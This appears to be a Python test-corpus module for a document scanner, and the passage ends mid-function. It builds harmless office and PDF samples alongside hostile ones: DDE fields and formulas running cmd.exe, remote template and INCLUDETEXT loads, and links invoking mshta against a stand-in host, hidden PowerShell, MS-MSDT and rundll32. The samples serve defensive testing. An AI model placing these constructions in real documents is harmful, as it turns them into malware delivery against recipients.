"""What archives and documents hold: what every office sends, and what documents run without being programs.

Harmless cases were held once, and hostile ones passed; each kind comes in variations.
"""

# ruff: noqa: E501 - a case is easier to read when its lines are not broken.

from __future__ import annotations

import base64
import html
import struct
import zlib
from collections.abc import Iterator

from gatescan.model import Verdict

from tests.corpus import documents as doc
from tests.corpus import packers as pack
from tests.corpus.case import EXE, HARMLESS, Case, attached
from tests.corpus.packers import File, ZipMember
from tests.corpus.structure import apple_double, mac_binary, signed

POLICY, ENCRYPTED = Verdict.POLICY, Verdict.ENCRYPTED
TEXT: File = ("minutes.txt", b"Minutes of the meeting, page 1.\n" * 20)
PROGRAM: File = ("run.exe", EXE)
SCRIPT = b'MsgBox "hello"\n'
_VBA_TYPE = "application/vnd.ms-office.vbaProject"
_Made = tuple[str, bytes]


def cases() -> Iterator[Case]:
    """All of them, each as an attachment and in a zip, in a fixed order."""
    for area, cls, verdict, sources in (
        (
            "harmless",
            0,
            HARMLESS,
            (
                _stored,
                _wrapped,
                _labels,
                _companions,
                _numbered,
                _pieces,
                _elsewhere,
                _objects,
                _opened,
                _open_links,
                _everyday_fields,
            ),
        ),
        (
            "runs",
            64,
            POLICY,
            (_projects, _flat, _fields, _clicks, _sheets, _rich, _open, _packages, _loading, _addresses, _pages),
        ),
        ("named", 61, POLICY, (_streams, _unpacked, _bundles, _referred)),
        ("spelled", 65, POLICY, (_spelled,)),
        ("sealed", 54, ENCRYPTED, (_sealed,)),
    ):
        for source in sources:
            for name, data in source():
                label = f"contents/{area}/{source.__name__.strip('_')}"
                yield Case(f"{label}/{name}", cls, attached(name.rpartition("/")[2].encode(), data), verdict)
                zipped = pack.zip_bytes([(name.rpartition("/")[2], data), TEXT])
                yield Case(f"{label}-in-zip/{name}", cls, attached(b"papers.zip", zipped), verdict)


def _stored(with_extra: bytes = struct.pack("<HH", 0xCAFE, 32) + bytes(32)) -> Iterator[_Made]:
    """Packed files that are stored as they are in another one, under names of any length."""
    book = doc.ooxml_bytes(folder="xl")
    for kind, inner in (("xlsx", book), ("docx", doc.ooxml_bytes()), ("zip", pack.zip_bytes([TEXT]))):
        name = f"word/embeddings/Microsoft_Excel_Worksheet1.{kind}".encode()
        for extra in (b"", with_extra):
            member = ZipMember(name, inner, method=0, extra=extra)
            short = ZipMember(b"a." + kind.encode(), inner, method=0, extra=extra)
            yield f"{kind}-{len(extra)}/chart.docx", doc.ooxml_bytes([member])
            yield f"{kind}-{len(extra)}/papers.zip", pack.zip_bytes([short, member, TEXT])
            yield f"{kind}-{len(extra)}/text.odt", doc.odf_bytes(extra=[member])
    layered = pack.zip_bytes([ZipMember(b"lib/a-library-with-a-long-name-1.0.zip", pack.zip_bytes([TEXT]), method=0)])
    yield "layers/app.zip", pack.zip_bytes([ZipMember(b"modules/the-module-of-the-application.zip", layered, method=0)])
    yield "attached/report.pdf", doc.pdf_bytes([("report.docx", doc.ooxml_bytes())], plain_streams=True)


def _wrapped() -> Iterator[_Made]:
    """Packed files as they are in wrappings that hold a file, in a database, and behind a program's own mark."""
    letter = doc.ooxml_bytes()
    yield "apple-single/letter.docx", apple_double(b"letter.docx", letter, resource=b"\x00\x00\x01\x00" + bytes(280))
    yield "mac-binary/letter.docx", mac_binary(b"letter.docx", letter)
    yield "signed/letter.docx.p7m", signed(letter)
    yield "signed-twice/letter.docx.p7m.p7m", signed(signed(letter))
    yield "signed-zip/papers.zip.p7m", signed(pack.zip_bytes([TEXT]))
    yield "database/office.db", b"SQLite format 3\x00" + bytes(range(250)) + letter
    mark = "\ufeff\u0e53ketchUp Model".encode("utf-16-le") + bytes(range(1, 32))
    yield "padded/papers.zip", bytes(600) + pack.zip_bytes([TEXT])
    yield "behind-a-mark/house.skp", mark + pack.zip_bytes([("model.dat", bytes(range(200)))])
    marks = b"7z\xbc\xaf\x27\x1c Rar!\x1a\x07\x01 Rar!\x1a\x07\x00 MSCF\x00\x00\x00\x00 "
    yield "marks/photo.jpg", b"\xff\xd8\xff\xe0" + bytes(range(256)) + marks + bytes(range(256)) * 3
    yield "marks/store.db", bytes(range(256)) + pack.rar5_bytes([TEXT]) + bytes(range(256))
    wide = "\u4f01" * 150 + ".pdf"
    folders = (
        "www.example.com/index.txt",
        "site.app/readme.txt",
        "a.com/Contents.txt",
        "Contents/a.app.txt",
        "a.com/contents/b.txt",
    )
    yield "folders/papers.zip", pack.zip_bytes([(folder, TEXT[1]) for folder in folders])
    yield "long-name/papers.zip", pack.zip_bytes([(wide, b"%PDF-1.4\n"), (f"{wide}/{wide}", b"%PDF-1.4\n")])


def _labels() -> Iterator[_Made]:
    """What only looks like macros: declared types, and projects without a line of code."""
    default = f'<Default Extension="bin" ContentType="{_VBA_TYPE}"/>'
    sheet = '<Override PartName="/xl/m.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
    main = '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.{}.macroEnabled.main+xml"/>'
    settings = [("xl/printerSettings/printerSettings1.bin", bytes(range(200)))]
    yield "default/list.xlsx", doc.ooxml_bytes(types=default, folder="xl")
    yield "default-with-settings/list.xlsx", doc.ooxml_bytes(settings, types=default, folder="xl")
    yield "no-such-sheet/list.xlsx", doc.ooxml_bytes(types=sheet, folder="xl")
    for kind, suffix in (("sheet", "xlsb"), ("sheet", "xlsm"), ("template", "xltm"), ("addin", "xlam")):
        yield f"{kind}/list.{suffix}", doc.ooxml_bytes(types=main.format(kind), folder="xl")
    for what, options in (("bare", ""), ("option", "Option Explicit\r\n"), ("lines", "\r\n\r\n")):
        empty = doc.vba_project(options=options)
        yield f"{what}/list.xlsm", doc.ooxml_bytes([("xl/vbaProject.bin", doc.ole_bytes(empty))], folder="xl")
        book = {"Workbook": doc.xls_workbook(), **doc.vba_project(options=options, folder="_VBA_PROJECT_CUR/VBA")}
        yield f"{what}/list.xls", doc.ole_bytes(book)
        yield f"{what}/sheet.pub", doc.ole_bytes({"Quill/QuillSub/CONTENTS": b"CHNKINK ", **empty})
    for what, module in (("empty", ""), ("remark", "REM  *****  BASIC  *****\n\n"), ("vba", "Option VBASupport 1\n")):
        yield f"{what}/list.ods", doc.odf_bytes(macro=True, module=module)


def _companions() -> Iterator[_Made]:
    """What systems lay beside a document, under its name."""
    apple = b"\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        " + bytes(range(120))
    owner = b"\x03Ann" + b" " * 50 + "\x03\x00Ann".encode("utf-16-le").ljust(108, b"\x00")
    files = {
        "__MACOSX/._Minutes.docx": apple,
        "__MACOSX/papers/._List.xlsx": apple,
        "._Talk.pptx": apple,
        "~$nutes.docx": owner,
        "~$List.xlsx": owner.ljust(165, b" "),
        ".~lock.Minutes.docx#": b",ann,pc,22.11.2026;",
        ".DS_Store": b"\x00\x00\x00\x01Bud1" + bytes(90),
        "desktop.ini": b"[.ShellClassInfo]\r\nIconResource=a.dll,1\r\n",
        "Thumbs.db": doc.ole_bytes({"Catalog": bytes(40), "1": b"\xff\xd8\xff\xe0" + bytes(90)}),
    }
    for name, data in files.items():
        if "/" not in name:
            yield f"alone/{name}", data
        yield f"{name.strip('._~$').replace('/', '-')}/papers.zip", pack.zip_bytes([(name, data), TEXT])


def _numbered() -> Iterator[_Made]:
    """Numbers that are extensions of instruments, not of volumes."""
    noise = bytes(i * 71 % 256 for i in range(900))
    for name in ("sample.001", "figures.123", "probe.002", "log.999", "base.t02", "site.u01", "run.s21", "cal.v10"):
        yield f"one/{name}", noise
    yield "a-series/spectra.zip", pack.zip_bytes([(f"sample.{i:03}", noise[i:]) for i in range(1, 6)])


def _pieces() -> Iterator[_Made]:
    """What a document format contains is no attachment of its own, whatever its name ends in."""
    epub = ZipMember(b"mimetype", b"application/epub+zip", method=0)
    page = [
        ("OEBPS/style.css", b"p { margin: 0 }\n"),
        ("OEBPS/page.js", b"var a = 1;\n"),
        ("META-INF/container.xml", b"<a/>"),
    ]
    yield "styles/book.epub", pack.zip_bytes([epub, *page])
    pieces = [
        ("word/theme/a.css", b"p {}\n"),
        ("customXml/item.vb", SCRIPT),
        ("word/x.js", b"var a;\n"),
        ("word/c.crt", b"x"),
    ]
    yield "styles/letter.docx", doc.ooxml_bytes(pieces)
    yield "styles/letter.odt", doc.odf_bytes(extra=pieces)


def _elsewhere() -> Iterator[_Made]:
    """References to the office's own places."""
    for number, target in enumerate(
        (
            "https://example.sharepoint.com/sites/office/Shared%20Documents/2025.xlsx",
            "https://example-my.sharepoint.com/personal/ann/Documents/figures.xlsm?web=1",
            "https://d.docs.live.net/1a2b/list.xlsb",
            "https://example.sharepoint.com/:x:/r/sites/office/_layouts/15/Doc.aspx?sourcedoc=%7Bx%7D&amp;file=a.xlsx",
            "https://onedrive.live.com/edit.aspx?resid=1a2b",
        )
    ):
        yield f"workbook-{number}/list.xlsx", doc.ooxml_bytes(relations=[("externalLinkPath", target)], folder="xl")
    for number, target in enumerate(
        (
            r"\\FILESERVER\templates\Letter.dotx",
            "file:///\\\\fs01\\office\\Letter.dotm",
            r"\\fs01.office.example.local\templates\Letter.dotm",
            "file:///\\\\files.corp\\office\\Letter.dotx",
        )
    ):
        yield f"template-{number}/letter.docx", doc.ooxml_bytes(relations=[("attachedTemplate", target)])
    for number, target in enumerate(("https://www.example.com/a.png", r"\\FILESERVER\logos\a.png", "file:///C:/a.png")):
        yield f"image-{number}/letter.docx", doc.ooxml_bytes(relations=[("image", target)])
    for number, target in enumerate(
        ("www.example.com", "example.com", "ann.lee@example.com", "shop.example.com?a=1", "skype:ann@example.com?call")
    ):
        yield f"site-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
    words = b"<w:t>A click with the action ppaction://program starts a program, as a ddeLink does.</w:t>"
    yield "prose/letter.docx", doc.ooxml_bytes([("word/document2.xml", words)])


def _objects() -> Iterator[_Made]:
    """Data of other programs that is no package, and keys that are no names."""
    picture = bytes.fromhex("0a00030000000000c000000000000046")
    bitmap = (
        b"BM"
        + struct.pack("<LLL", 5000, 0, 54)
        + b"(\x00\x00\x00\xdc\x00\x00\x00M\x00\x00\x00\x01\x00\x18\x00"
        + bytes(900)
    )
    native = struct.pack("<L", len(bitmap)) + bitmap
    yield "picture/letter.doc", doc.ole_bytes({"\x01Ole10Native": native}, picture)
    yield (
        "picture/letter.docx",
        doc.ooxml_bytes([("word/embeddings/o.bin", doc.ole_bytes({"\x01Ole10Native": native}, picture))]),
    )
    portfolio = doc.pdf_bytes([TEXT]).replace(
        b"/Names [(minutes.txt)", b"/Names [<00ADBE3A46696C65> 10 0 R (minutes.txt)"
    )
    yield "portfolio/papers.pdf", portfolio


def _opened() -> Iterator[_Made]:
    """Sealed under what everybody has: Excel's own password, or an empty one."""
    yield "agile/list.xlsx", doc.locked_office(doc.ooxml_bytes(folder="xl"))
    yield "rc4/list.xls", doc.ole_bytes({"Workbook": doc.locked_workbook()})
    yield "owner/paper.pdf", doc.locked_pdf(b"secret", open_owner=True)


def _sealed() -> Iterator[_Made]:
    yield "agile/list.xlsx", doc.locked_office(doc.ooxml_bytes(folder="xl"), "another")
    yield "rc4/list.xls", doc.ole_bytes({"Workbook": doc.locked_workbook("another")})


def _projects() -> Iterator[_Made]:
    """Projects with code, by their source or in their compiled form alone, and behind Excel's own password."""
    for what, streams in {
        "source": doc.vba_project(doc.MACRO),
        "compiled-only": doc.vba_project(compiled=3),
        "late": doc.vba_project(doc.MACRO, options="Option Explicit\r\n" + "\r\n" * 3000),
        "no-directory": {k: v for k, v in doc.vba_project(doc.MACRO).items() if not k.endswith("dir")},
    }.items():
        project = doc.ole_bytes(streams)
        yield f"{what}/list.xlsm", doc.ooxml_bytes([("xl/vbaProject.bin", project)], folder="xl")
        yield f"{what}/list.xlsb", doc.ooxml_bytes([("xl/other.dat", project)], folder="xl")
        yield f"{what}/list.xls", doc.ole_bytes({"Workbook": doc.xls_workbook(), **streams})
    macro = doc.ooxml_bytes([("xl/vbaProject.bin", doc.macro_project())], folder="xl")
    yield "agile/list.xlsx", doc.locked_office(macro)
    yield "rc4/list.xls", doc.ole_bytes({"Workbook": doc.locked_workbook(macro_sheet=True)})
    yield "basic/list.ods", doc.odf_bytes(macro=True, module="REM  x\nSub Main\nShell x\nEnd Sub\n")


def _flat() -> Iterator[_Made]:
    """Documents as one XML file: packages, macros, templates and fields in them."""
    package = doc.ole_bytes({"\x01Ole10Native": doc.ole_package(*PROGRAM)})
    remote = '<Relationship Type="x/attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"/>'
    parts = {
        "package": doc.flat_part("/word/embeddings/o.bin", package),
        "macro": doc.flat_part("/word/vbaProject.bin", doc.macro_project()),
        "template": doc.flat_part("/word/_rels/settings.xml.rels", remote),
        "field": doc.flat_part("/word/document.xml", doc.word_field("DDEAUTO c:\\\\cmd.exe /k x")),
    }
    for what, part in parts.items():
        flat = doc.flat_opc(part)
        yield f"{what}/letter.xml", flat
        yield f"{what}/letter.doc", flat.replace(b"?>", b"?><!--" + b"x" * 5000 + b"-->", 1)
        yield f"{what}-wide/letter.xml", flat.decode().encode("utf-16")
    for what, body in {
        "package": f'<w:binData w:name="oledata.mso">{doc.base64_text(package)}</w:binData>',
        "template": '<w:docPr><w:attachedTemplate w:val="https://x.example/t.dot"/></w:docPr>',
        "field": doc.word_field("DDE cmd x"),
    }.items():
        yield f"2003-{what}/letter.xml", doc.word_2003(body)
    for what, tag, content in (("macro", "VBProjectData", doc.macro_project()), ("package", "ForeignData", package)):
        body = f"<{tag}>{doc.base64_text(content)}</{tag}>"
        drawing = f'<VisioDocument xmlns="http://schemas.microsoft.com/visio/2003/core">{body}</VisioDocument>'
        yield f"visio-{what}/plan.vdx", b'<?xml version="1.0"?>' + drawing.encode()
    link = "<ExcelWorkbook><SupBook><Path>cmd|/c calc.exe</Path></SupBook></ExcelWorkbook>"
    cell = "<Worksheet><Table><Row><Cell ss:Formula=\"=cmd|'/c calc'!A1\"/></Row></Table></Worksheet>"
    name = '<Names><NamedRange ss:Name="a" ss:RefersTo="=cmd|\'/c calc\'!A1"/></Names>'
    for what, body in (("book", link), ("cell", cell), ("name", name)):
        yield f"2003-{what}/list.xml", doc.excel_2003(body)


def _fields() -> Iterator[_Made]:
    """DDE in Word's fields, in one run or many, and in workbooks."""
    numbers = " ".join(str(ord(letter)) for letter in "DDEAUTO")
    quote = f"{doc.FIELD_BEGIN}{doc.instruction(f'QUOTE {numbers}')}{doc.FIELD_END}"
    for what, body in {
        "auto": doc.word_field("DDEAUTO c:\\\\windows\\\\cmd.exe /k calc"),
        "plain": doc.word_field(" dde cmd calc"),
        "split": doc.word_field(*"DDEAUTO", " cmd"),
        "simple": '<w:fldSimple w:instr=" DDEAUTO cmd x "><w:r/></w:fldSimple>',
        "entity": doc.word_field("&#68;DE cmd"),
        "section": doc.word_field("<![CDATA[DDE]]><![CDATA[AUTO cmd]]>"),
        "comment": doc.word_field("D<!-- > -->DE cmd"),
        "section-in-comments": f"<!-- <![CDATA[ -->{doc.word_field('DDE cmd')}<!-- ]]> -->",
        "comment-in-instructions": f"<?x <!-- ?>{doc.word_field('DDE cmd')}<?x --> ?>",
        "quote": f"{doc.FIELD_BEGIN}{quote}{doc.instruction(' cmd x')}{doc.FIELD_END}",
    }.items():
        yield f"{what}/letter.docx", doc.ooxml_bytes([("word/header1.xml", f"<w:hdr>{body}</w:hdr>".encode())])
    field = f"\ufeff<w:document>{doc.word_field('DDEAUTO cmd')}</w:document>"
    for coding in ("utf-8", "utf-16-le"):
        yield f"other-name-{coding}/letter.docx", doc.ooxml_bytes([("word/main.dat", field.encode(coding))])
    for what, text in (
        ("auto", b"\x13 DDEAUTO cmd x\x14\x15"),
        ("wide", "\x13DDE cmd x\x15".encode("utf-16-le")),
        ("quoted", b"\x13\x13QUOTE 68 68 69\x15 cmd\x15"),
    ):
        yield f"{what}/letter.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + text})
    for what, instruction in {
        "auto": rb"DDEAUTO c:\\cmd x",
        "hex": rb"\'44\'44\'45 cmd",
        "code": rb"\u68?\u68?\u69? cmd",
        "groups": rb"{D}{\b D}E cmd",
        "quote": rb"{\field{\*\fldinst QUOTE %s}{\fldrslt x}} cmd" % numbers.encode(),
    }.items():
        yield (
            f"{what}/letter.rtf",
            doc.rtf_bytes(before="{\\field{\\*\\fldinst " + instruction.decode() + "}{\\fldrslt x}}"),
        )
    yield "link/list.xls", doc.ole_bytes({"Workbook": doc.xls_workbook(dde=True)})
    yield (
        "link/list.xlsb",
        doc.ooxml_bytes([("xl/externalLinks/externalLink1.bin", b"\xe8\x02\x0a\x01\x00" + bytes(8))], folder="xl"),
    )
    prefixed = b'<x:externalLink xmlns:x="y"><x:ddeLink ddeService="cmd" ddeTopic="x"/></x:externalLink>'
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'
    yield "elsewhere/list.xlsx", doc.ooxml_bytes([("xl/other.xml", link)], folder="xl")
    wide = f"\ufeff{prefixed.decode()}".encode("utf-16-le")
    yield "wide/list.xlsx", doc.ooxml_bytes([("xl/externalLinks/externalLink1.xml", wide)], folder="xl")
    yield "prefix/list.xlsx", doc.ooxml_bytes([("xl/externalLinks/externalLink1.xml", prefixed)], folder="xl")


def _fields_in(code: str) -> Iterator[_Made]:
    """One field in each of Word's formats."""
    yield (
        "letter.docx",
        doc.ooxml_bytes([("word/document2.xml", f"<w:document>{doc.word_field(code)}</w:document>".encode())]),
    )
    slashed = code.replace("\\", "\\\\")
    yield "letter.rtf", doc.rtf_bytes(before="{\\field{\\*\\fldinst " + slashed + "}{\\fldrslt x}}")
    yield "letter.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + f"\x13 {code}\x14x\x15".encode()})
    wide = f"\x13 {code} \x14x\x15".encode("utf-16-le")
    yield "wide.doc", doc.ole_bytes({"WordDocument": doc.word_stream() + wide})


def _loading() -> Iterator[_Made]:
    """Fields that load a text, an object or a picture from another machine."""
    share = r"\\\\192.0.2.9\\s\\notes"
    for what, code in {
        "text": 'INCLUDETEXT "https://x.example/notes.docx"',
        "text-share": f'INCLUDETEXT "{share}.docx" \\* MERGEFORMAT',
        "text-bare": "INCLUDETEXT http://x.example/notes.docx",
        "link": 'LINK Word.Document.12 "http://x.example/notes.docx" "" \\a',
        "link-share": f'LINK Excel.Sheet.12 "{share}.xlsx" "Sheet1!R1C1" \\a \\f 5',
        "link-page": 'link htmlfile "http://x.example/notes" "" \\a',
        "picture-share": f'INCLUDEPICTURE "{share}.png" \\d',
        "picture-share-address": 'INCLUDEPICTURE "file://192.0.2.9/s/logo.png"',
    }.items():
        for name, data in _fields_in(code):
            yield f"{what}/{name}", data
    for kind in ("image", "video"):
        link = [(kind, r"\\192.0.2.9\s\logo.png")]
        yield f"{kind}-share/letter.docx", doc.ooxml_bytes(relations=link)
    quoted = doc.FIELD_BEGIN + doc.word_field('QUOTE "INCLUDETEXT"') + doc.instruction(' "http://x.example/a.docx"')
    yield (
        "quote/letter.docx",
        doc.ooxml_bytes([("word/header1.xml", f"<w:hdr>{quoted}{doc.FIELD_END}</w:hdr>".encode())]),
    )


def _everyday_fields() -> Iterator[_Made]:
    """Fields as letters have them: pictures of pages that were pasted, sheets of the own server, parts of the own folder."""
    for what, code in {
        "picture": 'INCLUDEPICTURE "https://www.example.com/logo.png" \\* MERGEFORMATINET',
        "picture-part": 'INCLUDEPICTURE "cid:image001.png@01DB" \\* MERGEFORMATINET',
        "picture-file": r'INCLUDEPICTURE "C:\\Users\\ann\\logo.png" \* MERGEFORMAT',
        "picture-own": r'INCLUDEPICTURE "\\\\FILESERVER\\logos\\logo.png" \d',
        "text": r'INCLUDETEXT "C:\\papers\\terms.docx"',
        "text-own": r'INCLUDETEXT "\\\\FILESERVER\\papers\\terms.docx"',
        "link": r'LINK Excel.Sheet.12 "C:\\papers\\rates.xlsx" "Sheet1!R1C1:R4C4" \a \f 4 \r',
        "link-own": r'LINK Excel.Sheet.12 "\\\\FILESERVER\\rates.xlsx" "Sheet1!R1C1" \a',
        "link-workbook": 'LINK Excel.Sheet.12 "https://x.sharepoint.com/:x:/s/rates.xlsx" "Sheet1!R1C1" \\a',
        "hyperlink": 'HYPERLINK "https://www.example.com/setup.exe" \\o "LINK http://x"',
    }.items():
        for name, data in _fields_in(code):
            yield f"{what}/{name}", data
    for number, target in enumerate(
        (
            *("javascript:void(0)", "search.html", "ms-word:ofe|u|https://x.sharepoint.com/a.docx", "cmd/readme.md"),
            *("PowerShell%20Handbuch.pdf", "../docs/CMD Commands.docx", "file:///C:/Docs/PowerShell Guide.pdf"),
            *("PowerShell%20-%20Grundlagen.pdf", r"\\FILESERVER\it\PowerShell Scripts", "cmd (Windows).html"),
            *("PowerShell Teil 1: Dateien.pdf", "CMD Kommandos,Tipps.pdf", "PowerShell Start-Hilfe.pdf"),
            *(r"C:\System32\notes\cmd.txt", "file:///C:/Windows/System32/drivers/etc"),
            *("file:///C:/Booking.com%20Rechnung.pdf", "Node.js Handbuch.pdf#Teil 2", "Search: Ergebnisse"),
            *("file://nas.example.com", r"\\nas.example.com", "http//www.example.com", "ldap:ann@example.com"),
        )
    ):
        yield f"address-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
        yield f"address-{number}/paper.pdf", _with_address(target)
        yield from _linked(f"address-{number}", target)
    actions = b"/AA << /O << /S /JavaScript >> >> /A << /S /GoToR /F (//192.168.1.5/plans/a.pdf) >> "
    actions += b"/OpenAction << /S /GoToR /F (other.pdf) >> /AA 5 0 R /A << /S /GoToR /F (//192.0.2.9/plans/a.pdf) >>"
    yield "actions/paper.pdf", doc.pdf_bytes().replace(b"/Catalog", b"/Catalog " + actions)
    yield "address-web/paper.pdf", _with_address("www.example.com/setup.exe")
    formula = '<worksheet><c><f>HYPERLINK("#Sheet2!A1","file:///C:/a.exe")</f></c><c><f>HYPERLINK("https://x.example/"&amp;A1&amp;".exe")</f></c></worksheet>'
    formula += '<c><f>A1&amp;"|\'"&amp;B1</f></c><c><f>HYPERLINK(IF(A1="x","https://example.com","#a"),"a.exe")</f></c><c>cmd|\'x\'!a</c>'
    formula += "<c><f>Table1[Soll|'[EUR']]</f></c><c><f>HYPERLINK(CONCATENATE(A1,\"@example.com\"))</f></c>"
    yield "formula/list.xlsx", doc.ooxml_bytes([("xl/worksheets/sheet1.xml", formula.encode())], folder="xl")
    sources = (
        '<w:AttachedTemplate HRef="file:///C:\\Templates\\a.dotm"><x:WorksheetSource HRef="list-Dateien/sheet001.htm"/>'
        '<w:AttachedTemplate HRef="\\\\FILESERVER\\a.dotm"><a href="https://x.example/a.exe">:AttachedTemplate</a>'
    )
    yield "sources/letter.doc", f"<html><!--[if gte mso 9]><xml>{sources}</xml><![endif]--></html>".encode()
    page = (
        b"<PageContents><Cell N='Address' V='https://x.example/a.exe'/><Cell N='Address' V='plan.vsdx'/></PageContents>"
    )
    yield "sources/plan.vsdx", doc.ooxml_bytes([("visio/pages/page1.xml", page)], folder="visio")
    yield "address/letter.xml", doc.word_2003("<a:Address>Ann, shop@example.com, call me for setup.exe </a:Address>")
    comment = "Please start setup.exe first".encode("utf-16-le")
    comment = struct.pack("<HHL", 0x10, 0xFBA, len(comment)) + comment
    yield "comment/talk.ppt", doc.ole_bytes({"PowerPoint Document": bytes(64) + comment})
    yield "href/list.xls", _sheet_page(r"<tr><td><a href='\\FILESERVER\tools\setup.exe'>a</a></td></tr>")
    rows = "".join(
        f"<tr><td>=SUM(A{n}:B{n})</td><td>-{n}|{n}</td><td>= a | b</td><td>+49 30 {n}</td></tr>" for n in range(9)
    )
    prose = "".join(f"<p>{line}</p><table><tr><td>{line}</td></tr></table>" for line in _BARS)
    for name in ("mail.html", "list.xls"):
        yield f"bars/{name}", _sheet_page(prose)
    yield (
        "export/list.xls",
        _sheet_page(rows + "<tr><td>=HYPERLINK(&quot;https://www.example.com/a.exe&quot;)</td></tr>"),
    )


_BARS = (
    "@acme | Follow us on LinkedIn!", "- Sales | Marketing: see you at the fair!", "+Anna | Berlin! ", "- ja | nein!",
    "- ja | nein | weiss nicht! Bitte", "-in|out! And so on", "@ann|Thank you! Bob", "+1|2!", "- it's here | Ann's place! x",
)  # lines of prose, many a line # fmt: skip
"""Prose with bars, as it stands in mail into which a table of Excel was pasted."""


def _with_address(address: str) -> bytes:
    """A PDF with a link."""
    written = address.encode().replace(b"\\", b"\\\\")
    return doc.pdf_bytes().replace(
        b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /URI /URI (" + written + b") >>"
    )


def _sheet_page(rows: str) -> bytes:
    """A web page that Excel opens."""
    return f'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><body><table>{rows}</table></body></html>'.encode()


def _addresses() -> Iterator[_Made]:
    """Addresses that Windows hands to a program, and programs without their extension."""
    for number, target in enumerate(
        (
            "search-ms:query=invoice&crumb=location:%5C%5C192.0.2.9%5Cs",
            "MS-MSDT:/id PCWDiagnostic",
            "ms-officecmd:{}",
            "ms-appinstaller:?source=https://x.example/a.msix",
            "file:///C:/Windows/System32/mshta",
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell",
            r"\\192.0.2.9\s\invoice.exe",
        )
    ):
        yield f"{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target.replace("&", "&amp;"))])
        yield f"{number}/paper.pdf", _with_address(target)
        yield from _linked(str(number), target)
    quote = 'HYPERLINK "file:///C:/\x13 QUOTE 97 46 101 120 101\x15"'
    for coding in ("cp1252", "utf-16-le"):
        stream = doc.word_stream() + f"\x13{quote}\x14x\x15".encode(coding)
        yield f"quote-{coding}/letter.doc", doc.ole_bytes({"WordDocument": stream})
    for number, target in enumerate(
        (
            *("mshta http://x.example/a", "mshta%20javascript:close()", r"mshta \\192.0.2.9\s\a"),
            *("powershell -w hidden", "pwsh iex a", "file:///C:/x/cmd%20/c%20start"),
            *("rundll32  shell32,Control_RunDLL a", "rundll32%20url.dll,OpenURL a"),
            *("file:///C:/Windows/System32/a/b/wscript ", "file:C:/x/mshta C:/a.pdf", "cmd %22/c%22"),
        )
    ):
        yield f"words-{number}/letter.docx", doc.ooxml_bytes(relations=[("hyperlink", target)])
    for what, old, new in (
        (
            "referred",
            b"/Catalog",
            b"/Catalog /A << /URI 90 0 R >> >> endobj 90 0 obj (file:///C:/a.exe) endobj 91 0 obj <<",
        ),
        (
            "referred-in-stream",
            b"/Catalog",
            b"/Catalog /A << /URI 90 0 R >> >> endobj 91 0 obj [/FlateDecode] endobj 92 0 obj << /Type /ObjStm /Filter 91 0 R >>"
            b" stream\n" + zlib.compress(b"90 0 (file:///C:/a.exe)") + b"\nendstream endobj 93 0 obj <<",
        ),
        ("part", b"/Catalog", b"/Catalog /A << /S /GoToE /F (\\\\\\\\192.0.2.9\\\\s\\\\a) >>"),
        ("opened", b"/Catalog", b"/Catalog /AA << /O << /S /GoToR /F (//192.0.2.9/s/a.pdf) >> >>"),
    ):
        yield f"{what}/paper.pdf", doc.pdf_bytes().replace(old, new)
    yield "locked/paper.pdf", doc.pdf_bytes().replace(b"/Catalog", b"/Catalog /A << /U#52I <7365617263682D6D733A78> >>")


def _linked(what: str, target: str) -> Iterator[_Made]:
    """A link in fields of Word, in a workbook and a presentation of old."""
    written = target.replace("\\", "\\\\")
    for name, data in _fields_in(f'HYPERLINK "{written}" \\o "open"'):
        yield f"{what}-field/{name}", data
    wide = (target + "\0").encode("utf-16-le")
    plain = target.encode() + b"\0"
    for kind, moniker in (
        ("address", bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<L", len(wide)) + wide),
        ("file", bytes.fromhex("0303000000000000c000000000000046") + struct.pack("<HL", 0, len(plain)) + plain),
    ):
        link = bytes(8) + bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<LL", 2, 3) + moniker
        book = doc.xls_workbook() + doc.xls_workbook() + struct.pack("<HH", 0x1B8, len(link)) + link
        yield f"{what}-{kind}/list.xls", doc.ole_bytes({"Workbook": book})
    slide = struct.pack("<HHL", 0x10, 0xFBA, len(wide) - 2) + wide[:-2]
    yield f"{what}/talk.ppt", doc.ole_bytes({"PowerPoint Document": bytes(64) + slide})


def _pages() -> Iterator[_Made]:
    """Web pages that Excel or Word opens, with DDE or links that start a program."""
    link = "=HYPERLINK(&quot;file:///\\\\192.0.2.9\\s\\a&quot;&amp;&quot;.exe&quot;,&quot;open&quot;)"
    for what, cell in {
        "dde": "<td>=cmd|'/c calc'!A0</td>",
        "dde-plus": "<td> +MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0</td>",
        "dde-quoted": "<td>='cmd'|'/c calc'!A0</td>",
        "dde-blank": "<td>= cmd |'/c calc'!A0</td>",
        "dde-bare": "<td>=cmd|/c!A0</td>",
        "dde-item": "<td>=cmd|'/c echo hello!'!'a'</td>",
        "dde-marks": "<td>=cmd|'/c ''calc'' '!_x</td>",
        "dde-empty": "<td>=MSEXCEL|'..\\..\\cmd.exe'!''</td>",
        "dde-spelled": "<td>=cmd&#124;'/c calc'!A0</td>",
        "dde-formula": "<td x:fmla=\"=cmd|'/c calc'!A0\">1</td>",
        "link": f"<td>{link}</td>",
        "href": '<td><a href="file:///C:/Windows/System32/calc.exe">1</a></td>',
    }.items():
        yield f"{what}/list.xls", _sheet_page(f"<tr>{cell}</tr>")
        yield f"{what}/bare.xls", f"<table><tr>{cell}</tr></table>".encode()
        yield f"{what}/list.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + _sheet_page(f"<tr>{cell}</tr>")
    field = (
        "<!--[if supportFields]><span style='mso-element:field-begin'></span><span>&nbsp;</span>DDE<b>AUTO</b>"
        " c:\\windows\\system32\\cmd.exe<span style='mso-element:field-separator'></span><![endif]-->x"
